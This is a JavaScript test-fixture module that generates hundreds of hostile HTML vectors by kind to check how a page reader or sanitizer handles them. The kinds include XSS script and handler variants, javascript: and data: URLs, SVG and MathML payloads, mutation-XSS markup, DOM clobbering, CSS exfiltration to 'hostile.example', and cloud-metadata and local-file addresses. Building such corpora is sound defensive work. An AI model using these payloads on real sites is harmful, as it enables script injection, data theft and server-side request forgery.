/**
 * What a hostile page may put among its words, by kind. Each is written for this house, and calls `hostile()`, asks
 * `hostile.example` for something or says `--hostile` in a style where it succeeds: `watch.mjs` counts that.
 */
import { PAGES } from './whole-pages.mjs';

/**
 * @typedef {object} Vector
 * @property {string} id
 * @property {string} html stands between two paragraphs of an article, or is the page, where `whole` says so
 * @property {boolean} [whole]
 * @property {boolean} [scripts] the page's own scripts are part of the attack, so they run in the page
 */

const RUN = 'hostile()';
const AWAY = 'https://hostile.example';
const lines = (/** @type {string} */ text) =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter(Boolean);
const words = (/** @type {string} */ text) => text.trim().split(/\s+/);

/** Scripts by their element, in every way of writing it. */
const SCRIPTS = lines(`
  <script>${RUN}</script>
  <SCRIPT>${RUN}</SCRIPT>
  <script src="${AWAY}/a.js"></script>
  <script type="module">${RUN}</script>
  <script type="text/plain">${RUN}</script><script>${RUN}</script>
  <script async defer src="data:text/javascript,${RUN}"></script>
  <script/x>${RUN}</script>
  <script\t>${RUN}</script >
  <scr<script>ipt>${RUN}</scr</script>ipt>
  <<script>${RUN}//<</script>
  <script><!--${RUN}//--></script>
  <script>/*<p>*/${RUN}/*</p>*/</script>
  <noscript><script>${RUN}</script></noscript>
  <p><script>document.body.append("x")</script>${RUN}</p>
  <script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>
  <script type="importmap">{"imports":{"a":"${AWAY}/a.js"}}</script>
  <script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AWAY}/next"]}]}</script>
  <script nomodule>${RUN}</script>
`);

/** Handlers that fire by themselves, and those that wait for a hand. */
const HANDLERS = words(`
  onload onerror onfocus onblur onclick onmouseover onmouseenter onpointerenter onpointerdown onkeydown onscroll onscrollend
  onwheel ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend oncopy oncut onpaste onselectstart
  oncontextmenu onauxclick ondragstart oninput onchange onsubmit onreset oninvalid onloadstart oncanplay onplay
  onhashchange onpopstate onmessage onpageshow onresize onbeforeprint oncontentvisibilityautostatechange onsecuritypolicyviolation
`);
const CARRIERS = [
  (/** @type {string} */ on) => `<img src="${AWAY}/no.jpg" ${on}="${RUN}">`,
  (/** @type {string} */ on) => `<p tabindex="0" ${on}="${RUN}">A paragraph that listens.</p>`,
  (/** @type {string} */ on) => `<details open ${on}='${RUN}'><summary>More</summary>Words.</details>`,
  (/** @type {string} */ on) => `<a href="#a" autofocus ${on}=${RUN}>A link that listens</a>`,
  (/** @type {string} */ on) => `<video autoplay muted src="${AWAY}/v.mp4" ${on}="${RUN}"></video>`,
  (/** @type {string} */ on) =>
    `<table ${on}="${RUN}"><tbody ${on}="${RUN}"><tr><td ${on}="${RUN}">Cell</td></tr></table>`,
];
const HANDLED = HANDLERS.flatMap((on, index) => [
  CARRIERS[index % CARRIERS.length]?.(on) ?? '',
  CARRIERS[(index + 1) % CARRIERS.length]?.(on.toUpperCase()) ?? '',
]);
const HANDLED_ODDLY = lines(`
  <img/src="x"/onerror="${RUN}">
  <img src=x onerror\n=\n"${RUN}">
  <img src=x onerror=&#104;ostile()>
  <img src=x \u000conerror=${RUN}>
  <img """><p title="<img src=x onerror=${RUN}>">
  <p title='"><img src=x onerror=${RUN}>'>A title</p>
  <img src="x\`onerror=${RUN}">
  <a title="</a><img src=x onerror=${RUN}>">Title</a>
  <img alt="--><img src=x onerror=${RUN}>" src="${AWAY}/x.jpg">
  <body onload="${RUN}">
  <html onclick="${RUN}">
  <input autofocus onfocus="${RUN}">
  <select autofocus onfocus="${RUN}"><option>a</select>
  <textarea autofocus onfocus="${RUN}">a</textarea>
  <marquee onstart="${RUN}">Moving words</marquee>
  <p contenteditable autofocus onfocus="${RUN}">Words to be written</p>
  <dialog open onclose="${RUN}">Words in a dialog</dialog>
  <p popover id="pop" onbeforetoggle="${RUN}">Words</p><button popovertarget="pop">Open</button>
`);

/** Addresses that run something, in the ways they can be spelt. */
const ADDRESSES = words(`
  javascript:${RUN} JaVaScRiPt:${RUN} javascript:// javascript&colon;${RUN} &#106;avascript:${RUN} &#x6A;avascript:${RUN}
  java&Tab;script:${RUN} java&NewLine;script:${RUN} &#1;javascript:${RUN} &#32;javascript:${RUN} javascript:/**/${RUN}
  javascript:%68ostile() javascript:void(${RUN}) vbscript:${RUN} livescript:${RUN} data:text/html,<script>${RUN}</script>
  data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCk8L3NjcmlwdD4= data:image/svg+xml,<svg/onload=${RUN}> data:,${RUN}
  data:application/xhtml+xml,<x/> blob:${AWAY}/0 filesystem:${AWAY}/temporary/a about:blank about:srcdoc view-source:${AWAY}
  file:///etc/passwd chrome://settings chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/reader.html
  moz-extension://11111111-2222-4333-8444-555555555555/reader.html resource://gre/ ws://hostile.example/ ftp://hostile.example/
  intent://a#Intent;end ms-settings:a feed:javascript:${RUN} jar:${AWAY}!/a //hostile.example/a \\\\hostile.example/a
  https://bank.example@hostile.example/ https:hostile.example http://[::1 ${AWAY}/\u202egpj.exe
`);
const LINKED = ADDRESSES.flatMap((address) => [
  `<p>A <a href="${address}">link among words</a>, and more of them.</p>`,
  `<p><img src="${address}" alt="A picture">Words beside it.</p>`,
]);
const LINKED_ODDLY = lines(`
  <a href="${AWAY}/a" ping="${AWAY}/ping" target="_top" rel="opener" referrerpolicy="unsafe-url" download>Link</a>
  <a href="#x" onclick="${RUN}">In</a><p id="x">Here</p>
  <a href="#main">In</a><p id="main" name="main">Here</p>
  <a href="#documentElement">In</a><p id="documentElement">Here</p>
  <a href="#__proto__">In</a><p id="__proto__">Here</p>
  <a href="#%ff">In</a><p id="%ff">Here</p>
  <a href="#&#xd800;">In</a><p id="&#xd800;">Here</p>
  <a xlink:href="javascript:${RUN}">Link</a>
  <a href="${AWAY}" href="javascript:${RUN}">Link</a>
  <a href="javascript:${RUN}" href="${AWAY}">Link</a>
  <a href=javascript:${RUN} type="video/*"></a>
  <a href="${AWAY}/v" type="video/*" title="<img src=x onerror=${RUN}>"></a>
  <area href="javascript:${RUN}" shape="default"><map name="m"><area href="javascript:${RUN}"></map><img usemap="#m" src="${AWAY}/m.jpg">
  <a href="https://user:password@hostile.example/">Signed in</a>
  <blockquote cite="javascript:${RUN}">Words that somebody said</blockquote>
  <q cite="data:text/html,x">Words</q><del cite="javascript:${RUN}">old</del><ins cite="javascript:${RUN}">new</ins>
  <a href="tel:+1;ext=javascript:${RUN}">Call</a><a href="mailto:a@b?body=javascript:${RUN}">Write</a>
  <a attributionsrc="${AWAY}/attribution" href="${AWAY}">Counted</a>
`);

const SVGS = lines(`
  <svg onload="${RUN}"></svg>
  <svg><script>${RUN}</script></svg>
  <svg><script href="${AWAY}/a.js"/></svg>
  <svg><script xlink:href="data:text/javascript,${RUN}"/></svg>
  <svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>
  <svg><set onbegin="${RUN}" attributeName="x" to="1"></svg>
  <svg><animateTransform onbegin="${RUN}"/></svg>
  <svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">Press</text></a></svg>
  <svg><a xlink:href="javascript:${RUN}"><text y="20">Press</text></a></svg>
  <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>
  <svg><use href="${AWAY}/sprite.svg#x"/></svg>
  <svg><image href="${AWAY}/i.png" width="10" height="10"/></svg>
  <svg><feImage href="${AWAY}/f.png"/></svg>
  <svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>
  <svg><foreignObject><p onclick="${RUN}">Words in a drawing that are long enough to be kept</p></foreignObject></svg>
  <svg><style>@import url(${AWAY}/a.css); *{--hostile:1}</style></svg>
  <svg><style><img src=x onerror=${RUN}></style></svg>
  <svg><title><img src=x onerror=${RUN}></title></svg>
  <svg><desc><p><style><img src=x onerror=${RUN}></style></p></desc></svg>
  <svg><p><style><a title="</style><img src=x onerror=${RUN}>"></svg>
  <svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>
  <svg></p><style><a id="</style><img src=1 onerror=${RUN}>">
  <svg><handler type="text/javascript">${RUN}</handler><listener event="load" handler="#h"/></svg>
  <svg><text filter="url(${AWAY}/f.svg#f)" y="20">Words in a drawing</text></svg>
  <svg><discard onbegin="${RUN}"/></svg>
  <svg><cursor xlink:href="${AWAY}/c.cur"/></svg>
  <svg><metadata><script>${RUN}</script></metadata></svg>
  <svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${RUN}</x:script></svg>
`);

const FORMULAS = lines(`
  <math href="javascript:${RUN}"><mi>x</mi></math>
  <math><mi href="javascript:${RUN}">x</mi></math>
  <math><mi xlink:href="javascript:${RUN}">x</mi></math>
  <math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">press<mtext>x</mtext></maction></math>
  <math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>
  <math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror=${RUN}></annotation-xml></math>
  <math><semantics><mi>x</mi><annotation encoding="application/x-tex"><img src=x onerror=${RUN}></annotation></semantics></math>
  <math><mtext><img src=x onerror=${RUN}></mtext></math>
  <math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>
  <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUN}>"></style></h1></math>
  <math><mi style="--hostile:1;position:fixed">x</mi></math>
  <math><mstyle mathbackground="url(${AWAY}/b.png)" mathcolor="red"><mi>x</mi></mstyle></math>
  <math><mspace width="99999em" height="99999em"/></math>
  <math><mpadded width="-9999em" voffset="9999em"><mi>x</mi></mpadded></math>
  <math><mi onclick="${RUN}" onmouseover="${RUN}">x</mi></math>
  <math><malignmark><svg><script>${RUN}</script></svg></malignmark></math>
  <math><none/><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></math>
  <span class="katex" data-latex="<img src=x onerror=${RUN}>">x</span>
  <span class="MathJax" data-mathml="<math><mi><img src=x onerror=${RUN}></mi></math>">x</span>
  <script type="math/mml"><math><mtext><img src=x onerror=${RUN}></mtext></math></script>
  <script type="math/tex">\\href{javascript:${RUN}}{x}</script>
`);

/** Markup that says one thing to one parser and another to the next. */
const MUTANTS = lines(`
  <noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>
  <noscript><style></noscript><img src=x onerror=${RUN}></style>
  <textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>
  <title><p title="</title><img src=x onerror=${RUN}>"></title>
  <style><p title="</style><img src=x onerror=${RUN}>"></style>
  <xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>
  <noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>
  <noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>
  <iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>
  <template><p title="</template><img src=x onerror=${RUN}>"></template>
  <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">
  <select><iframe><select><img src=x onerror=${RUN}></select>
  <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>
  <form><form><math><mtext><form><mglyph><style><img src=x onerror=${RUN}>
  <table><td><form><table></form><style><img src=x onerror=${RUN}></style></table>
  <table><caption><svg><style><img src=x onerror=${RUN}></style></caption></table>
  <math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${RUN}>">
  <svg><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">
  <b><i><u><s><b><i><u><s><p></b></i><img src=x onerror=${RUN}>
  <a><table><a href="javascript:${RUN}">Two links</table></a>
  <p><!--><img src=x onerror=${RUN}>--></p>
  <p><!---><img src=x onerror=${RUN}>--></p>
  <p><!--!><img src=x onerror=${RUN}>--!></p>
  <?xml version="1.0"?><?x <img src=x onerror=${RUN}> ?>
  <![CDATA[<img src=x onerror=${RUN}>]]>
  <!doctype html [<!ENTITY x "<img src=x onerror=${RUN}>">]>&x;
  </p></br></div><img src=x onerror=${RUN}>
  <p>&lt;img src=x onerror=${RUN}&gt;</p>
  <p>&amp;lt;img src=x onerror=${RUN}&amp;gt;</p>
  <pre><code>&lt;script&gt;${RUN}&lt;/script&gt;</code></pre>
  <listing>&lt;img src=x onerror=${RUN}&gt;</listing>
  <plaintext hidden></plaintext><img src=x onerror=${RUN}>
  <x-element is="script"><template shadowrootmode="open"><img src=x onerror=${RUN}><slot></slot></template>Words</x-element>
  <div><template shadowrootmode="closed"><script>${RUN}</script></template>Words in a shadow that are kept</div>
  <p is="x-script" slot="a" part="b" exportparts="c">Words</p>
  <object><param name="src" value="x"><img src=x onerror=${RUN}></object>
  <ruby>a<rp><img src=x onerror=${RUN}></rp><rt onclick="${RUN}">b</rt></ruby>
  <image src="${AWAY}/x.jpg" onerror="${RUN}">
  <img src="${AWAY}/x.jpg" is="x-img" usemap="#m" ismap longdesc="javascript:${RUN}" lowsrc="javascript:${RUN}">
`);

const STYLES = [
  'background:url(URL)',
  'background-image:image-set(url(URL) 1x)',
  'list-style:url(URL)',
  'border-image:url(URL) 1',
  'cursor:url(URL),auto',
  'content:url(URL)',
  'mask:url(URL)',
  'filter:url(URL)',
  'position:fixed;inset:0;z-index:99999;background:red',
  'width:expression(hostile())',
  'behavior:url(URL)',
  '-moz-binding:url(URL#x)',
  '--hostile:1',
  'font-size:9999px',
  'display:contents;animation:x 1s',
].map(
  (css) =>
    `<p style="--hostile:1;${css.replace('URL', `${AWAY}/s.png`)}">Words in a style of their own, which they lose.</p>`,
);
const SHEETS = lines(`
  <style>*{--hostile:1}</style>
  <style>@import "${AWAY}/a.css";</style>
  <style>@font-face{font-family:x;src:url(${AWAY}/f.woff2)}body{font-family:x;--hostile:1}</style>
  <style>input[value^=a]{background:url(${AWAY}/a)}</style>
  <style>html{--hostile:1;animation:x 1s}@keyframes x{from{background:url(${AWAY}/k)}}</style>
  <link rel="stylesheet" href="${AWAY}/a.css">
  <link rel="stylesheet" href="data:text/css,*{--hostile:1}">
  <link rel="preload" as="style" href="${AWAY}/a.css" onload="this.rel='stylesheet'">
  <p class="bar panel notice held" id="panel">Words in our own classes</p>
  <font color="red" size="7" face="x">Large words</font>
  <table background="${AWAY}/t.png" bgcolor="red" width="99999"><tr><td background="${AWAY}/d.png">Cell</td></tr></table>
  <body background="${AWAY}/b.png" bgcolor="red" text="red">
  <hr color="red" size="999" width="99999"><center>Words</center>
  <p hidden style="display:block;--hostile:1">Words</p><p inert>Words that cannot be reached</p>
`);

const FRAMES = lines(`
  <iframe src="javascript:parent.${RUN}"></iframe>
  <iframe src="${AWAY}/embed/player" width="640" height="360" allowfullscreen></iframe>
  <iframe srcdoc="<script>parent.${RUN}</script>"></iframe>
  <iframe srcdoc="<p>${'Words in a frame, which are many. '.repeat(20)}<img src=x onerror=${RUN}></p>" width="1200" height="900"></iframe>
  <iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>
  <iframe onload="${RUN}"></iframe>
  <frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>
  <object data="javascript:${RUN}"></object>
  <object data="data:text/html,<script>${RUN}</script>" type="text/html"></object>
  <object type="image/svg+xml" data="${AWAY}/a.svg"><p>Instead of it these words</p></object>
  <embed src="javascript:${RUN}">
  <embed src="${AWAY}/a.swf" allowscriptaccess="always" type="application/x-shockwave-flash">
  <applet code="javascript:${RUN}"></applet>
  <portal src="${AWAY}" onload="${RUN}"></portal>
  <fencedframe src="${AWAY}"></fencedframe>
  <video poster="${AWAY}/p.jpg" src="${AWAY}/v.mp4" autoplay onloadstart="${RUN}"></video>
  <video><source src="x" onerror="${RUN}"><track src="${AWAY}/t.vtt" default></video>
  <audio src="${AWAY}/a.mp3" autoplay onerror="${RUN}"></audio>
  <canvas onclick="${RUN}">Instead of a drawing these words</canvas>
`);

const FORMS = lines(`
  <form action="javascript:${RUN}"><button>Send</button></form>
  <form action="${AWAY}/post" method="post" onsubmit="${RUN}"><input name="a" value="secret"><input type="submit"></form>
  <form id="f"></form><button form="f" formaction="javascript:${RUN}">Send</button>
  <button formaction="javascript:${RUN}" type="submit">Send</button>
  <input type="image" src="${AWAY}/i.png" formaction="javascript:${RUN}">
  <input type="password" name="password" autocomplete="current-password"><p>Sign in, please, to read on.</p>
  <isindex action="javascript:${RUN}" type="image">
  <keygen autofocus onfocus="${RUN}">
  <label for="x" onclick="${RUN}">Label</label><input id="x" type="checkbox">
  <fieldset onclick="${RUN}"><legend>Legend<img src=x onerror=${RUN}></legend>Words</fieldset>
  <textarea name="body" oninput="${RUN}">Words</textarea>
  <select name="children" onchange="${RUN}"><option>a<option>b</select>
  <output onclick="${RUN}">4</output><progress value="1"></progress><meter value="1"></meter>
  <datalist id="d"><option value="<img src=x onerror=${RUN}>"></datalist>
  <button command="show-modal" commandfor="d">Open</button><dialog id="d">Words<script>${RUN}</script></dialog>
`);

/** Names that would hide what a script asks of an element. */
const CLOBBERS = words(`
  parentNode parentElement nextSibling nextElementSibling previousElementSibling firstChild firstElementChild lastElementChild
  childNodes children attributes nodeType nodeName localName tagName namespaceURI textContent innerText innerHTML outerHTML
  className classList id style dataset getAttribute setAttribute removeAttribute hasAttribute getAttributeNames
  querySelector querySelectorAll matches closest remove append replaceWith removeChild appendChild insertBefore cloneNode
  ownerDocument shadowRoot checkVisibility getBoundingClientRect body documentElement constructor __proto__ toString
`).map(
  (name, index) =>
    [
      `<form><input name="${name}"><input name="${name}"></form><p>A paragraph after the form, which is read all the same.</p>`,
      `<form name="${name}"><p>A paragraph within the form, which is read all the same.</p><img name="${name}" id="${name}"></form>`,
      `<a id="${name}" name="${name}" href="${AWAY}">Link</a><a id="${name}" name="x" href="${AWAY}">Link</a>`,
    ][index % 3] ?? '',
);

const HEADS = lines(`
  <meta http-equiv="refresh" content="0;url=${AWAY}/">
  <meta http-equiv="refresh" content="0;url=javascript:${RUN}">
  <meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">
  <meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'; report-uri ${AWAY}/csp">
  <meta http-equiv="set-cookie" content="a=b">
  <meta name="referrer" content="unsafe-url">
  <meta charset="utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-
  <base href="${AWAY}/"><img src="relative.jpg" alt="Relative"><a href="relative">Relative</a>
  <base href="javascript:/a/-${RUN}//"><a href="x">Relative</a>
  <base target="_top"><a href="${AWAY}">Link</a>
  <link rel="dns-prefetch" href="//hostile.example"><link rel="preconnect" href="${AWAY}">
  <link rel="prefetch" href="${AWAY}/a"><link rel="prerender" href="${AWAY}/b"><link rel="preload" as="image" href="${AWAY}/c.png">
  <link rel="modulepreload" href="${AWAY}/a.js">
  <link rel="import" href="${AWAY}/a.html"><link rel="manifest" href="${AWAY}/m.json"><link rel="icon" href="${AWAY}/i.ico">
  <link rel="next" href="javascript:${RUN}"><link rel="canonical" href="javascript:${RUN}"><link rel="license" href="javascript:${RUN}">
`);

/** Pictures that tell somebody, or ask with more than they need. */
const PICTURES = lines(`
  <img src="/picture.png" crossorigin="use-credentials" alt="With credentials">
  <img src="/picture.png" crossorigin alt="With an origin">
  <img src="/picture.png" referrerpolicy="unsafe-url" alt="With a referrer">
  <img src="/picture.png" srcset="${AWAY}/2x.png 2x, ${AWAY}/3x.png 3x" sizes="100vw" alt="A set">
  <picture><source srcset="${AWAY}/a.avif" type="image/avif"><source media="(min-width:1px)" srcset="${AWAY}/b.webp"><img src="/picture.png" alt="Sources"></picture>
  <img src="${AWAY}/1.gif" width="1" height="1" alt="">
  <img src="${AWAY}/0.gif" width=0 height=0>
  <img src="${AWAY}/pixel.gif?u=1" alt="">
  <img src="${AWAY}/matomo.php?idsite=1&amp;rec=1" style="border:0" alt="">
  <img src="${AWAY}/tr?id=1&amp;ev=PageView&amp;noscript=1" alt="">
  <noscript><img height="1" width="1" style="display:none" src="${AWAY}/tr?id=1&amp;ev=PageView"></noscript>
  <img src="${AWAY}/b/ss/suite/1/H.1/s1?AQB=1" alt="">
  <img src="${AWAY}/ddm/activity/src=1;type=a;cat=b;ord=1?" alt="">
  <img src="${AWAY}/beacon?page=1" hidden alt="">
  <img src="${AWAY}/late.jpg" loading="eager" fetchpriority="high" decoding="sync" alt="At once">
  <img data-src="${AWAY}/lazy.jpg" alt="Lazy"><img data-srcset="${AWAY}/lazy2.jpg 2x" alt="Lazy"><img data-original="javascript:${RUN}" alt="Lazy">
  <img data-src="data:image/svg+xml,<svg onload=${RUN}>" alt="Lazy">
  <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoKSIvPg==" alt="A drawing">
  <img src="data:image/png,${'A'.repeat(500)}<script>${RUN}</script>" alt="No picture">
  <img src="data:image/png;base64,${'A'.repeat(100_000)}" alt="Too large">
  <img src="data:text/html,<script>${RUN}</script>" alt="No picture">
  <img src="${AWAY}/a.svg" alt="A drawing from elsewhere">
  <img src="//hostile.example/rel.png" alt="Without a scheme">
  <img src="http://hostile.example:22/a.png" alt="A port of something else">
  <img src="http://user:pass@hostile.example/a.png" alt="Signed in">
  <img src="http://127.0.0.1:9/a.png" alt="This machine">
  <img src="http://169.254.169.254/latest/meta-data" alt="The cloud">
  <img src="${AWAY}/${'a'.repeat(5000)}.png" alt="A long address">
  <img src="${AWAY}/a.png" alt="${'a'.repeat(10_000)}">
  <img src="${AWAY}/a.png" attributionsrc browsingtopics sharedstoragewritable alt="Asks for more">
  <amp-img src="${AWAY}/amp.jpg" width="640" height="360" on="tap:x" alt="AMP"></amp-img><amp-pixel src="${AWAY}/amp"></amp-pixel>
  <figure><img src="/picture.png" alt="A picture"><figcaption>A caption <img src=x onerror=${RUN}><script>${RUN}</script></figcaption></figure>
  <img src="/picture.png" alt="<script>${RUN}</script>" title="<img src=x onerror=${RUN}>" name="body" id="body">
`);

/** Constructs without an end, which may take the rest of the article with them. */
const UNCLOSED = lines(`
  <!-- never closed
  <![CDATA[ never closed
  <script>${RUN}
  <style>*{--hostile:1}
  <textarea>words
  <title>words
  <xmp>words
  <plaintext>words
  <select><option>words
  <template>words
  <noscript><p title="
  <iframe>words
  <svg><style>*{--hostile:1}
  <math><mtext><style>
  <a href="${AWAY}/never-closed
  <img src="${AWAY}/never-closed alt='
  <p title="
  <table><tr><td><table>
  <form action="javascript:${RUN}"><button>
  <button><p>words
`);

/** Text that is hard to show. */
const TEXTS = [
  '<p>\u202eeslaf si hcihw ,eman A\u202c and \u2066words\u2069 that turn round.</p>',
  `<p>${'\u202e'.repeat(2000)}Never turned back.</p>`,
  `<p>${'\u200b\u200d\ufeff'.repeat(2000)}Words between nothings.</p>`,
  `<p>${'a\u0300\u0301\u0302\u0303'.repeat(5000)}</p>`,
  `<p>${'w'.repeat(300_000)}</p>`,
  '<p>\0NUL\u0001 and \u0007 others &#0; &#x1b; &#xfffe; &#x110000;</p>',
  `<p>${'&amp;'.repeat(20_000)}</p>`,
  `<p>${'🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧‍👦'.repeat(500)}</p>`,
  '<p lang="<script>" dir="ltr&quot; onclick=&quot;hostile()">Words in no language.</p>',
  `<p lang="${'x-'.repeat(1000)}">Words in a long language.</p>`,
  `<p>\${${RUN}} {{${RUN}}} <%= ${RUN} %> [[${RUN}]] #{${RUN}}</p>`,
  '<time datetime="<script>hostile()</script>">Yesterday</time>',
  '<ol start="-99999999999" reversed><li value="99999999999">One</ol>',
  '<table><tr><td colspan="99999" rowspan="99999">Wide</td></tr></table>',
  '<pre data-language="url(https://hostile.example)" class="language-&quot;onclick=hostile()">Code</pre>',
  `${'<div>'.repeat(1500)}Deep words that are read all the same.${'</div>'.repeat(1500)}`,
  `<p ${Array.from({ length: 3000 }, (_, index) => `x${index}="a"`).join(' ')}>Many attributes.</p>`,
  `${'<b><i><a href=#>'.repeat(120)}Formatting without an end.`,
];

/** @type {Readonly<Record<string, readonly string[]>>} */
const KINDS = {
  script: SCRIPTS,
  handler: [...HANDLED, ...HANDLED_ODDLY],
  address: [...LINKED, ...LINKED_ODDLY],
  svg: SVGS,
  formula: FORMULAS,
  mutant: MUTANTS,
  style: [...STYLES, ...SHEETS],
  frame: FRAMES,
  form: FORMS,
  clobber: CLOBBERS,
  head: HEADS,
  picture: PICTURES,
  unclosed: UNCLOSED,
  text: TEXTS,
};

/** @returns {Vector[]} the project's own */
export const ownVectors = () => [
  ...Object.entries(KINDS).flatMap(([kind, all]) => all.map((html, index) => ({ id: `${kind}-${index + 1}`, html }))),
  ...PAGES,
];
